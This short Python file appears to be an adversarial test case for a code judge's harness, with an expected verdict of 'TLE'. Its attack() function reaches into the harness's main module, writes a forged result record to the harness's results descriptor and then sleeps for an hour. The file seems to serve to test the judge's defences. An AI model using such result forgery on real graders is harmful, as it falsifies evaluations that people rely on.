"""answer with a length within the limit and nothing after it

Breach: space that the judge makes for it, or a judge that waits.
"""

import os
import sys
import time

VERDICT = "TLE"


def attack(bait: bytes) -> bytes:
    harness = sys.modules["__main__"]
    os.write(harness.RESULTS, b"O" + harness.tokens[0] + (1 << 19).to_bytes(8, "big"))
    time.sleep(3600)
    return b""
